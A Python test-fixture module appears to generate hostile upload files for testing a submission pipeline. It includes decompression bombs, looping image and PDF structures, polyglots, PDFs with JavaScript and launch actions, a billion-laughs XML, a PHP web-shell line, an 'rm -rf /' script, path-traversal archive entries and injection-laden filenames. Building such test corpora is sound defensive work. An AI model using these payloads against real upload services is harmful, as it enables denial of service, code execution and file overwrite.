"""Files that people with bad intentions would send, made on the spot: bombs, loops, disguises, polyglots, bad names."""

from __future__ import annotations

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.submission.media import (
    chart,
    encoded,
    locked_pdf,
    pdf,
    plain_pdf,
    scans,
    shadings,
    sideways,
    wide_pdf,
)

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
JPEG, PNG, GIF = (encoded(chart((64, 48)), kind) for kind in ("JPEG", "PNG", "GIF"))
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">'.encode() for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + b"]><l>&i;</l>"
)


def corpus() -> list[tuple[str, bytes]]:
    """The declared name and the bytes of every file. All differ in their bytes."""
    return [*_pictures(), *_documents(), *_archives(), *_disguised(), *_named()]


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "бомба-900-мегапікселів.png", encoded(Image.new("1", (30_000, 30_000)), "PNG")
    yield "найбільше-що-буває.png", _png(2**31 - 1, 2**31 - 1, b"")
    yield "рядків-більше-ніж-треба.png", _png(8, 8, zlib.compress(bytes(50_000_000), 9))
    yield "бомба-в-тексті.png", _png(8, 8, zlib.compress(bytes(72)), _chunk(b"zTXt", _inflated(b"k\0\0")))
    yield "бомба-в-профілі.png", _png(8, 8, zlib.compress(bytes(72)), _chunk(b"iCCP", _inflated(b"p\0\0")))
    yield "хибна-сума.png", PNG[:-20] + bytes([PNG[-20] ^ 1]) + PNG[-19:]
    yield "тисяча-кадрів.png", _film("PNG", 1_000)
    yield "дві-тисячі-кадрів.gif", _film("GIF", 2_000)
    yield "велетень.gif", b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6) + GIF[20:]
    yield "велетень.jpg", _resized_jpeg(65_535, 65_535)
    yield "нуль.jpg", _resized_jpeg(0, 0)
    yield "п’ятсот-проходів.jpg", _many_scans(500)
    yield "обірване.jpg", encoded(chart(), "JPEG")[:-2_000]
    yield "без-розміру.jpg", b"\xff\xd8\xff"
    yield "опис-із-кодом.jpg", _exif(SCRIPT)
    yield "поворот-99.jpg", _exif(b"x", orientation=99)
    yield "опис-що-ходить-по-колу.jpg", _looping_exif()
    yield "код-у-xmp.jpg", _segment(b"\xff\xe1", b"http://ns.adobe.com/xap/1.0/\0" + SVG)
    yield (
        "сміття-в-профілі.jpg",
        _segment(b"\xff\xe2", b"ICC_PROFILE\0\1\1" + random.Random(1).randbytes(5_000)),
    )
    yield "коментар-із-php.jpg", _segment(b"\xff\xfe", b"<?php system($_GET['c']); ?>")
    yield "геодані.jpg", sideways((60, 80))
    yield "чотири-фарби.jpg", encoded(chart().convert("CMYK"), "JPEG")
    yield (
        "велетень.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 70, 0, 0, 54, 40, 60_000, 60_000, 1, 24, *[0] * 6),
    )
    yield "велетень.webp", b"RIFF\x40\0\0\0WEBPVP8L\x20\0\0\0\x2f" + b"\xff" * 48
    yield "обірване.webp", encoded(chart(), "WEBP")[:300]
    yield "зошити-по-колу.tiff", _looping_tiff()
    yield (
        "мільйон-смуг.tiff",
        _tiff({256: 60_000, 257: 60_000, 258: 8, 259: 5, 262: 1, 273: 8, 278: 1, 279: 4}),
    )
    yield "п’ятсот-аркушів.tiff", scans([Image.new("1", (8, 8), shade % 2) for shade in range(500)])
    yield "обірване.heic", encoded(chart(), "HEIF")[:700]
    yield "зламане.heic", _shuffled(encoded(chart(), "HEIF"))
    yield "велетень.heic", _resized_heif(encoded(chart((64, 48)), "HEIF"), 64, 48, 60_000, 60_000)
    yield "зламане.avif", _shuffled(encoded(chart(), "AVIF"))
    yield "фільм.heic", b"\0\0\0\x18ftypmsf1\0\0\0\0msf1hevc" + bytes(500)


def _documents() -> Iterator[tuple[str, bytes]]:
    yield "сто-сторінок-переливів.pdf", shadings(100)
    yield "замкнений.pdf", locked_pdf()
    yield "сценарій.pdf", _catalogue("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);while\\(1\\){})>>")
    yield "запуск.pdf", _catalogue("/OpenAction<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>")
    yield "адреса.pdf", _catalogue("/OpenAction<</S/URI/URI(https://example.org/?steal)>>")
    yield "форма-xfa.pdf", _catalogue("/AcroForm<</XFA(<xdp:xdp><script>1</script></xdp:xdp>)/Fields[]>>")
    yield (
        "вкладення.pdf",
        _catalogue("/Names<</EmbeddedFiles<</Names[(evil.exe)<</F(evil.exe)/EF<</F 9 0 R>>>>]>>>>"),
    )
    yield "дерево-по-колу.pdf", _pages("<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "мільярд-сторінок.pdf", _pages("<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", _page())
    yield (
        "глибоке-дерево.pdf",
        _pages(*(f"<</Type/Pages/Kids[{n} 0 R]/Count 1>>" for n in range(3, 3_000)), _page()),
    )
    yield (
        "десять-тисяч-сторінок.pdf",
        _pages(f"<</Type/Pages/Kids[{'3 0 R ' * 10_000}]/Count 10000>>", _page("0 0 10 10")),
    )
    yield (
        "форма-в-собі.pdf",
        _drawing("/X Do", "/XObject<</X 5 0 R>>", _form("/X Do", "/XObject<</X 5 0 R>>")),
    )
    yield (
        "візерунок-у-собі.pdf",
        _drawing(
            "/Pattern cs /P scn 0 0 600 800 re f",
            "/Pattern<</P 5 0 R>>",
            _stream(
                "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.01/YStep 0.01"
                "/Resources<</Pattern<</P 5 0 R>>>>",
                "/Pattern cs /P scn 0 0 1 1 re f",
            ),
        ),
    )
    yield (
        "літера-в-собі.pdf",
        _drawing(
            "BT /T 12 Tf (aaaa) Tj ET",
            "/Font<</T 5 0 R>>",
            "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
            "/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/Resources<</Font<</T 5 0 R>>>>>>",
            _stream("", "9 0 d0 BT /T 12 Tf (a) Tj ET"),
        ),
    )
    yield "мільйон-збережень.pdf", _drawing("q " * 1_000_000, "")
    yield "мільйон-кривих.pdf", _drawing("0 0 m " + "9 9 5 5 1 1 c " * 300_000 + "S", "")
    yield (
        "бомба-в-потоці.pdf",
        _image("/Filter/FlateDecode", zlib.compress(bytes(100_000_000), 9), 10_000, 10_000),
    )
    yield "десять-фільтрів.pdf", _image("/Filter[" + "/FlateDecode" * 10 + "]", _folded(10), 5_000, 5_000)
    yield "велетень-jbig2.pdf", _image("/Filter/JBIG2Decode", _jbig2(60_000, 60_000), 60_000, 60_000)
    yield "зламаний-jpx.pdf", _image("/Filter/JPXDecode", _jpx(60_000, 60_000), 60_000, 60_000)
    yield (
        "велетень-ccitt.pdf",
        _image(
            "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>",
            b"\x26\xa0" * 9_000,
            60_000,
            60_000,
        ),
    )
    yield "велика-сторінка.pdf", wide_pdf("0 0 14400 14400")
    yield "сторінка-без-кінця.pdf", wide_pdf("0 0 1e38 1e38")
    yield "сторінка-навиворіт.pdf", wide_pdf("900 900 -900 -900")
    yield "таблиця-по-колу.pdf", _looping_xref()
    yield "обірваний.pdf", pdf(2, "#lorem(50)")[:-900]
    yield "порожній-усередині.pdf", b"%PDF-1.7\n%%EOF"
    yield "сміття.pdf", b"%PDF-1.7\n" + random.Random(2).randbytes(20_000)


def _archives() -> Iterator[tuple[str, bytes]]:
    yield "бомба.zip", _zipped({"0": bytes(100_000_000)})
    yield "матрьошка.zip", _nested(30)
    yield "шляхи-нагору.zip", _zipped({"../../../../etc/cron.d/x": b"x", "/abs": b"x", "C:\\x": b"x"})
    yield "бомба.gz", gzip.compress(bytes(50_000_000), mtime=0)
    yield "макрос.docm", _zipped({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "[Content_Types].xml": LAUGHS})
    yield "архів.rar", b"Rar!\x1a\x07\x01\x00" + bytes(100)


def _disguised() -> Iterator[tuple[str, bytes]]:
    yield "сторінка.jpg", HTML
    yield "малюнок.svg", SVG
    yield "малюнок.png", SVG + b"\n"
    yield "архів.pdf", _zipped({"a.txt": b"a"})
    yield "програма.jpg.exe", b"MZ" + bytes(200) + b"PE\0\0"
    yield "програма.pdf", b"\x7fELF" + bytes(200)
    yield "сценарій.sh", b"#!/bin/sh\nrm -rf /\n"
    yield "ярлик.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68)
    yield "сміх.xml", LAUGHS
    yield "знімок-і-архів.jpg", JPEG + _zipped({"evil.html": HTML})
    yield "знімок-і-сторінка.png", PNG + HTML
    yield "знімок-і-сценарій.gif", b"GIF89a/*" + GIF[8:] + b"*/=alert(1);"
    yield "документ-і-архів.pdf", pdf(1) + _zipped({"b.txt": b"b"})
    yield "знімок-і-документ.jpg", JPEG[:2] + b"\xff\xfe\x00\x10%PDF-1.4\n%aaaa" + JPEG[2:]
    yield "документ-і-сторінка.html", HTML + pdf(1)
    yield "постскрипт.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n"
    yield "фотошоп.psd", b"8BPS\0\1" + bytes(60)
    yield "значок.ico", b"\0\0\1\0\1\0" + bytes(40)
    yield "відео.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(500)
    yield "голос.ogg", b"OggS" + bytes(500)
    yield "лист.eml", b"From: a@example.org\r\nContent-Type: text/html\r\n\r\n" + HTML
    yield "порожній.jpg", b""
    yield "один-байт.jpg", b"\xff"
    yield "нулі.bin", bytes(100_000)
    yield "випадок.bin", random.Random(3).randbytes(100_000)


def _named() -> Iterator[tuple[str, bytes]]:
    names = (
        "../../../../etc/passwd",
        "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
        "/dev/null",
        "рахунок\u202egpj.exe",
        "\u2066а\u2069\u200b\ufeff.png",
        "я" * 127 + ".png",
        "a" * 255,
        "CON",
        "nul.png",
        "com1.jpg",
        "LPT9.",
        "aux .png",
        "  .  . ",
        "",
        ".htaccess",
        "-rf *.png",
        "a\0b\nc\rd\te.png",
        "<img src=x onerror=alert(1)>.png",
        '"><script>alert(1)</script>.png',
        "=cmd|' /C calc'!A0.png",
        "$(reboot);`id`.png",
        "%2e%2e%2fpasswd",
        "manifest.json",
        "verify.py",
        "claim.pdf",
        "evidence/01-паспорт.png",
        "Z" + "\u0301" * 200 + ".png",
        "👨‍👩‍👧‍👦" * 20 + ".heic",
        "file.png:stream",
        "a|b?c*d<e>f.png",
    )
    for shade, name in enumerate(names):
        yield name, encoded(Image.new("L", (8, 8), shade), "PNG")


def _chunk(tag: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))


def _inflated(head: bytes) -> bytes:
    return head + zlib.compress(bytes(60_000_000), 9)


def _png(width: int, height: int, data: bytes, *more: bytes) -> bytes:
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _film(kind: str, frames: int) -> bytes:
    pictures = [Image.new("L", (16, 16), n % 256) for n in range(frames)]
    return encoded(pictures[0], kind, save_all=True, append_images=pictures[1:])


def _resized_jpeg(width: int, height: int) -> bytes:
    at = JPEG.index(b"\xff\xc0") + 5
    return JPEG[:at] + struct.pack(">HH", height, width) + JPEG[at + 4 :]


def _many_scans(times: int) -> bytes:
    """A progressive JPEG whose last pass is there again and again."""
    whole = encoded(chart((512, 512)), "JPEG", progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * times + whole[-2:]


def _segment(marker: bytes, body: bytes) -> bytes:
    return JPEG[:2] + marker + struct.pack(">H", len(body) + 2) + body + JPEG[2:]


def _exif(words: bytes, orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0x013B] = orientation, words.decode(), words.decode()
    return encoded(chart((64, 48)), "JPEG", exif=exif)


def _looping_exif() -> bytes:
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)  # the next directory is this one
    return _segment(b"\xff\xe1", b"Exif\0\0II*\0\x08\0\0\0\x01\0" + entry + struct.pack("<I", 8))


def _tiff(tags: dict[int, int], following: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in sorted(tags.items()))
    return (
        b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following) + bytes(64)
    )


def _looping_tiff() -> bytes:
    return _tiff({256: 8, 257: 8, 258: 8, 259: 1, 262: 1, 273: 8, 278: 8, 279: 64}, following=8)


def _shuffled(data: bytes) -> bytes:
    """The same length, the same beginning, and chaos after it."""
    rest = bytearray(data[64:])
    chance = random.Random(4)
    for _ in range(len(rest) // 8):
        rest[chance.randrange(len(rest))] = chance.randrange(256)
    return data[:64] + bytes(rest)


def _resized_heif(data: bytes, width: int, height: int, *sides: int) -> bytes:
    size, told = struct.pack(">II", width, height), struct.pack(">II", *sides)
    return data.replace(b"ispe\0\0\0\0" + size, b"ispe\0\0\0\0" + told)


def _stream(head: str, content: str) -> str:
    return f"<<{head}/Length {len(content)}>>\nstream\n{content}\nendstream"


def _page(box: str = "0 0 100 100") -> str:
    return f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]>>"


def _pages(*objects: str) -> bytes:
    return plain_pdf(["<</Type/Catalog/Pages 2 0 R>>", *objects])


def _catalogue(more: str) -> bytes:
    objects = [f"<</Type/Catalog/Pages 2 0 R{more}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", _page()]
    return plain_pdf([*objects, *["null"] * 5, _stream("/Type/EmbeddedFile", "MZ")])


def _drawing(content: str, resources: str, *objects: str) -> bytes:
    return _pages(
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<{resources}>>>>",
        _stream("", content),
        *objects,
    )


def _form(content: str, resources: str) -> str:
    return _stream(f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<{resources}>>", content)


def _image(coding: str, data: bytes, width: int, height: int) -> bytes:
    """One page that shows one picture in this coding."""
    marked = "PLACE FOR THE BYTES"
    head = f"/Type/XObject/Subtype/Image/Width {width}/Height {height}/ColorSpace/DeviceGray/BitsPerComponent 8{coding}"
    made = _drawing("595 0 0 842 0 0 cm /I Do", "/XObject<</I 5 0 R>>", _stream(head, marked))
    told = f"/Length {len(marked)}>>\nstream\n{marked}".encode()
    return made.replace(told, f"/Length {len(data)}>>\nstream\n".encode() + data)


def _folded(times: int) -> bytes:
    data = bytes(25_000_000)
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def _jbig2(width: int, height: int) -> bytes:
    page = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    return struct.pack(">IBBI", 0, 48, 1, len(page)) + page


def _jpx(width: int, height: int) -> bytes:
    size = struct.pack(">HHIIIIIIIIH", 47, 0, width, height, 0, 0, width, height, 0, 0, 3) + b"\7\1\1" * 3
    return b"\xff\x4f\xff\x51" + size + b"\xff\x52\0\x0c\0\0\0\1\0\5\4\4\0\1\xff\xd9"


def _looping_xref() -> bytes:
    made = _pages("<</Type/Pages/Kids[3 0 R]/Count 1>>", _page())
    start = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def _zipped(files: dict[str, bytes]) -> bytes:
    room = io.BytesIO()
    with zipfile.ZipFile(room, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return room.getvalue()


def _nested(depth: int) -> bytes:
    data = bytes(100_000)
    for _ in range(depth):
        data = _zipped({"inside.zip": data})
    return data
